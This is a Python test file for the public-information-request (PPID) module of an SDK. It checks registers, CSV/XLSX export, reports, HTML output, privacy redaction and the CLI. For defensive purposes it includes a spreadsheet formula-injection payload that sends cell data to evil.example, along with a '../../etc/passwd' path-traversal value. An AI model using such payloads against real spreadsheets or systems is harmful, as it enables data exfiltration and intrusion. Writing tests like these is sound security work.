"""Registers (CSV/XLSX round trip, formula injection), the service report, the HTML page,
hostile input, and the privacy canary over every output a public reader sees."""

from __future__ import annotations

import csv
import logging
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook
from ppid_helpers import ADDRESS, EMAIL, NAME, NIK, PHONE, PHONE_E164, at, new_request, requester
from typer.testing import CliRunner

from lapor_sdk import InvalidInputError, ppid
from lapor_sdk.cli import app
from lapor_sdk.privacy import RedactingFilter

CANARIES = (NAME, NIK, PHONE, PHONE_E164, EMAIL, ADDRESS, "3578 0157 0890 0003")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
NOW = at("2025-12-31", "17:00")


def assert_no_canary(text: str, where: str) -> None:
    for value in CANARIES:
        assert value.lower() not in text.lower(), f"{value!r} leaked into {where}"


def register_set() -> list[ppid.InformationRequest]:
    """A small register: granted, partly granted, rejected+objected+disputed, late, pending."""
    a = ppid.decide(new_request("PPID/2025/0001", "2025-03-03"), at=at("2025-03-05"),
                    kind="granted", cost=15_000)  # fmt: skip
    b = ppid.extend(new_request("PPID/2025/0002", "2025-03-10"), at=at("2025-03-11"), days=7,
                    reason=f"Koordinasi; pemohon {NAME}")  # fmt: skip
    b = ppid.decide(b, at=at("2025-04-08"), kind="partly_granted", grounds=["h"],
                    consequence_test="Data pribadi pegawai dihitamkan")  # fmt: skip
    c = ppid.decide(new_request("PPID/2025/0003", "2025-05-05"), at=at("2025-05-06"),
                    kind="rejected_exempt", grounds=["a", "h"],
                    consequence_test="Penyidikan berjalan")  # fmt: skip
    c = ppid.object_to(c, at=at("2025-05-08"), number="KEB/2025/0001", reasons=["a"],
                       statement=f"Saya {NAME}, telp {PHONE}")  # fmt: skip
    c = ppid.answer_objection(c, at=at("2025-05-20"), outcome="upheld", text="Menguatkan",
                              superior="Sekretaris Daerah")  # fmt: skip
    c = ppid.file_dispute(c, at=at("2025-05-26"), commission="KI Provinsi Jawa Timur")
    d = ppid.decide(new_request("PPID/2025/0004", "2025-06-02"), at=at("2025-06-30"),
                    kind="not_held", holder="BPS Provinsi")  # fmt: skip
    e = ppid.register(number="PPID/2025/0005", received_at=at("2025-08-04"),
                      requester=requester(), information=HOSTILE, purpose="@SUM(1+1)")  # fmt: skip
    return [a, b, c, d, e]


class TestRegisters:
    def test_public_register_has_no_identity(self) -> None:
        table = ppid.request_register(register_set(), now=NOW)
        assert not table.with_identity
        assert "Nama pemohon" not in table.columns and "NIK" not in table.columns
        for row in table.rows:
            assert_no_canary(" ".join(str(c) for c in row), "the public request register")
        first = dict(zip(table.columns, table.rows[0], strict=True))
        assert first["Keputusan"] == "Dikabulkan seluruhnya"
        assert first["Waktu penyelesaian (hari kerja)"] == 2
        assert first["Tepat waktu"] == "ya"
        assert first["Biaya (Rp)"] == 15_000
        fourth = dict(zip(table.columns, table.rows[3], strict=True))
        assert fourth["Tepat waktu"] == "tidak"
        assert fourth["Alasan penolakan atau pengecualian"].endswith("dikuasai BPS Provinsi")

    def test_internal_register_has_the_identity(self) -> None:
        table = ppid.request_register(register_set(), with_identity=True, now=NOW)
        row = dict(zip(table.columns, table.rows[0], strict=True))
        assert row["Nama pemohon"] == NAME and row["NIK"] == NIK
        assert row["Nomor kontak"] == f"{PHONE_E164}, {EMAIL}"

    def test_objection_register_follows_the_perki_items(self) -> None:
        table = ppid.objection_register(register_set())
        assert len(table.rows) == 1
        row = dict(zip(table.columns, table.rows[0], strict=True))
        assert row["Nomor registrasi keberatan"] == "KEB/2025/0001"
        assert row["Nomor pendaftaran permohonan"] == "PPID/2025/0003"
        assert row["Alasan keberatan (Pasal 35 ayat (1))"].startswith("Pasal 35 ayat (1) huruf a")
        assert row["Keputusan atasan PPID"] == "Menguatkan putusan PPID"
        assert row["Nama dan jabatan atasan PPID"] == "Sekretaris Daerah"
        assert row["Sengketa ke Komisi Informasi"].startswith("KI Provinsi Jawa Timur")
        assert row["Tanggapan tepat waktu"] == "ya"

    def test_csv_round_trip_and_formula_injection(self, tmp_path: Path) -> None:
        table = ppid.request_register(register_set(), now=NOW)
        path = ppid.write_csv(table, tmp_path / "register.csv")
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        assert tuple(rows[0]) == table.columns
        assert len(rows) == len(table.rows) + 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(ppid.FORMULA_PREFIXES), cell
        hostile = dict(zip(rows[0], rows[-1], strict=True))
        assert hostile["Informasi yang diminta"] == "'" + HOSTILE
        assert hostile["Tujuan penggunaan informasi"] == "'@SUM(1+1)"
        assert rows[1][0] == "PPID/2025/0001"

    def test_xlsx_round_trip_and_no_formula(self, tmp_path: Path) -> None:
        tables = [
            ppid.request_register(register_set(), now=NOW),
            ppid.objection_register(register_set()),
        ]
        path = ppid.write_xlsx(tables, tmp_path / "register.xlsx")
        book = load_workbook(path)
        assert book.sheetnames == ["Register permohonan informasi p", "Register keberatan"]
        sheet = book.worksheets[0]
        values = [[c.value for c in row] for row in sheet.iter_rows()]
        assert tuple(values[0]) == tables[0].columns
        assert values[1][0] == "PPID/2025/0001"
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
        col = tables[0].columns.index("Informasi yang diminta")
        assert values[-1][col] == "'" + HOSTILE
        assert values[1][tables[0].columns.index("Biaya (Rp)")] == 15_000  # numbers stay numbers

    @pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
    def test_neutralize(self, value: str) -> None:
        assert ppid.neutralize(value) == "'" + value
        assert ppid.neutralize("Data APBD") == "Data APBD"
        assert ppid.neutralize(-5) == -5


class TestReport:
    def test_figures_of_a_year_and_a_semester(self) -> None:
        year = ppid.service_report(register_set(), period=ppid.ReportPeriod.year(2025), now=NOW)
        assert year.requests == 5 and year.decided == 4 and year.pending == 1
        assert year.pending_overdue == 1
        assert {k.value: v for k, v in year.by_decision.items()} == {
            "granted": 1,
            "partly_granted": 1,
            "rejected_exempt": 1,
            "not_held": 1,
        }
        assert {k.value: v for k, v in year.exemption_grounds.items()} == {"a": 1, "h": 2}
        assert year.extended == 1
        assert (year.on_time, year.late) == (3, 1)
        assert year.refused == 2
        assert year.days_max == 17 and year.days_median == pytest.approx(8.0)
        assert year.objections == 1 and year.objections_answered_on_time == 1
        assert year.disputes == 1 and year.dispute_outcomes == {}
        first = ppid.service_report(
            register_set(), period=ppid.ReportPeriod.semester(2025, 1), now=NOW
        )
        assert first.requests == 4 and first.period.label == "Semester I 2025"
        second = ppid.service_report(
            register_set(), period=ppid.ReportPeriod.semester(2025, 2), now=NOW
        )
        assert second.requests == 1 and second.objections == 0
        assert second.to_dict()["pending_overdue"] == 1

    def test_bad_periods(self) -> None:
        with pytest.raises(InvalidInputError, match="semester must be 1 or 2"):
            ppid.ReportPeriod.semester(2025, 3)
        with pytest.raises(InvalidInputError, match="between 2008"):
            ppid.ReportPeriod.year(1999)


class TestHtml:
    @pytest.fixture(scope="class")
    @classmethod
    def page(cls) -> tuple[str, BeautifulSoup]:
        requests = register_set()
        report = ppid.service_report(requests, period=ppid.ReportPeriod.year(2025), now=NOW)
        html = ppid.render_report_html(report, requests, agency="Diskominfo <b>Jatim</b>")
        return html, BeautifulSoup(html, "html.parser")

    def test_accessible_structure(self, page: tuple[str, BeautifulSoup]) -> None:
        html, soup = page
        assert soup.html is not None and soup.html["lang"] == "id"
        tables = soup.find_all("table")
        assert len(tables) >= 8
        for table in tables:
            assert table.caption is not None and table.caption.get_text(strip=True)
            assert all(th.get("scope") in ("col", "row") for th in table.find_all("th"))
        for svg in soup.find_all("svg"):
            assert svg["role"] == "img"
            assert svg.find("title", id=str(svg["aria-labelledby"]))
            desc = svg.find("desc", id=str(svg["aria-describedby"]))
            assert desc is not None and ". Dikabulkan seluruhnya: " in desc.get_text()
        assert soup.find("script") is None and "https://" not in html

    def test_escaped_and_no_identity(self, page: tuple[str, BeautifulSoup]) -> None:
        html, soup = page
        assert "<b>Jatim</b>" not in html and "Diskominfo &lt;b&gt;Jatim&lt;/b&gt;" in html
        assert_no_canary(html, "the HTML report")
        text = soup.get_text(" ")
        assert "PPID/2025/0003" in text and "KEB/2025/0001" in text
        assert HOSTILE in text  # shown as text, escaped


class TestHostileInput:
    def test_huge_fields_are_refused_without_echo(self) -> None:
        huge = "A" * 10_001
        with pytest.raises(ValueError) as err:
            ppid.register(number="P/1", received_at=at("2025-03-03"), requester=requester(),
                          information=huge)  # fmt: skip
        assert huge not in str(err.value)
        with pytest.raises(ValueError):
            ppid.register(number="../../etc/passwd", received_at=at("2025-03-03"),
                          requester=requester(), information="x")  # fmt: skip

    def test_bad_personal_data_never_echoed(self) -> None:
        for field, bad in (("nik", "3578019999999999x"), ("email", "sulis@@contoh"),
                           ("phone", "0812-34")):  # fmt: skip
            with pytest.raises(ValueError) as err:
                ppid.Requester(**{field: bad})
            assert bad not in str(err.value)


def test_privacy_canary_in_reprs_logs_and_errors(caplog: pytest.LogCaptureFixture) -> None:
    requests = register_set()
    for r in requests:
        assert_no_canary(repr(r), "repr")
        assert_no_canary(str(r), "str")
        assert_no_canary(repr(r.requester), "requester repr")
    logger = logging.getLogger("lapor_sdk.test.ppid")
    handler = logging.Handler()
    records: list[str] = []
    handler.emit = lambda record: records.append(record.getMessage())  # type: ignore[method-assign]
    handler.addFilter(RedactingFilter())
    logger.addHandler(handler)
    try:
        logger.warning("request %s", requests[2])
    finally:
        logger.removeHandler(handler)
    assert records and all(NIK not in m and PHONE not in m for m in records)
    for call in (
        lambda: ppid.extend(requests[0], at=at("2025-03-06"), days=3, reason="x"),
        lambda: ppid.object_to(requests[0], at=at("2025-03-06"), number="K", reasons=["a"]),
    ):
        with pytest.raises(Exception) as err:
            call()
        assert_no_canary(str(err.value), "an error message")


runner = CliRunner()


def cli(db: Path, *args: str) -> Any:
    return runner.invoke(app, ["ppid", *args, "--db", str(db)])


class TestCli:
    def test_register_to_report_on_different_days(self, tmp_path: Path) -> None:
        db = tmp_path / "ppid.db"
        result = cli(db, "register", "--info", "Salinan APBD 2025", "--name", NAME, "--nik", NIK,
                     "--phone", PHONE, "--email", EMAIL,
                     "--received-at", "2025-03-20T09:00+07:00")  # fmt: skip
        assert result.exit_code == 0, result.output
        assert result.stdout.splitlines() == [
            "registered PPID/2025/0001",
            "answer due 2025-04-14T16:00:00+07:00 (10 hari kerja, UU 14/2008 Pasal 22 ayat (7))",
        ]
        steps = [
            ("extend", "PPID/2025/0001", "--days", "7", "--reason", "Koordinasi",
             "--at", "2025-03-21T10:00+07:00"),
            ("decide", "PPID/2025/0001", "--decision", "rejected_exempt", "--ground", "h",
             "--consequence-test", "Data pribadi", "--at", "2025-04-23T10:00+07:00"),
            ("object", "PPID/2025/0001", "--reason", "a", "--at", "2025-04-24T10:00+07:00"),
            ("answer-objection", "KEB/2025/0001", "--outcome", "upheld", "--text", "Menguatkan",
             "--at", "2025-05-02T10:00+07:00"),
            ("dispute", "PPID/2025/0001", "--commission", "KI Jatim",
             "--at", "2025-05-05T10:00+07:00"),
            ("settle", "PPID/2025/0001", "--outcome", "mediated", "--at", "2025-06-05T10:00+07:00"),
        ]  # fmt: skip
        outputs = []
        for step in steps:
            result = cli(db, *step)
            assert result.exit_code == 0, (step, result.output)
            outputs.append(result.stdout)
        assert "answer due 2025-04-24T16:00:00+07:00" in outputs[0]
        assert "atasan PPID must answer by" in outputs[2]
        result = cli(db, "report", "--year", "2025", "--json", "--html", str(tmp_path / "r.html"))
        assert result.exit_code == 0, result.output
        assert '"rejected_exempt": 1' in result.stdout and '"disputes": 1' in result.stdout
        for name in ("r.csv", "r.xlsx"):
            register = "both" if name.endswith("xlsx") else "requests"
            result = cli(db, "export", str(tmp_path / name), "--register", register)
            assert result.exit_code == 0, result.output
        public = (tmp_path / "r.html").read_text("utf-8") + (tmp_path / "r.csv").read_text(
            "utf-8-sig"
        )
        assert_no_canary(public, "the CLI's public outputs")
        full = tmp_path / "full.csv"
        result = cli(db, "export", str(full), "--with-identity")
        assert "with identity" in result.stdout and NAME in full.read_text("utf-8-sig")

    def test_due_lists_overdue_first(self, tmp_path: Path) -> None:
        db = tmp_path / "ppid.db"
        for day in ("2025-03-03", "2025-03-20"):
            cli(db, "register", "--info", "Data", "--received-at", f"{day}T09:00+07:00")
        result = cli(db, "due", "--now", "2025-03-18T09:00+07:00", "--json")
        assert result.exit_code == 0, result.output
        assert '"state": "breached"' in result.stdout.split("},")[0]

    @pytest.mark.parametrize(
        ("args", "message"),
        [
            (("extend", "NOPE/1", "--days", "3", "--reason", "x"), "no request 'NOPE/1'"),
            (("register", "--info", "x", "--received-at", "kemarin"), "is not an ISO date-time"),
            (("register", "--info", "x", "--received-at", "2025-03-03T09:00"), "no UTC offset"),
            (("register",), "give --info"),
            (("register", "--info", "x", "--tz", "Mars/Olympus"), "is not a time zone"),
            (("register", "--info", "x" * 10_001), "at most 10000"),
            (("export", "out.pdf"), "use .csv or .xlsx"),
        ],
    )
    def test_one_line_errors(self, tmp_path: Path, args: tuple[str, ...], message: str) -> None:
        result = cli(tmp_path / "ppid.db", *args)
        assert result.exit_code == 1, result.output
        assert message in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
        assert "Traceback" not in result.output

    def test_bad_nik_is_one_line_without_echo(self, tmp_path: Path) -> None:
        bad = "1234567890123456"
        result = cli(tmp_path / "ppid.db", "register", "--info", "x", "--nik", bad)
        assert result.exit_code == 1 and bad not in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
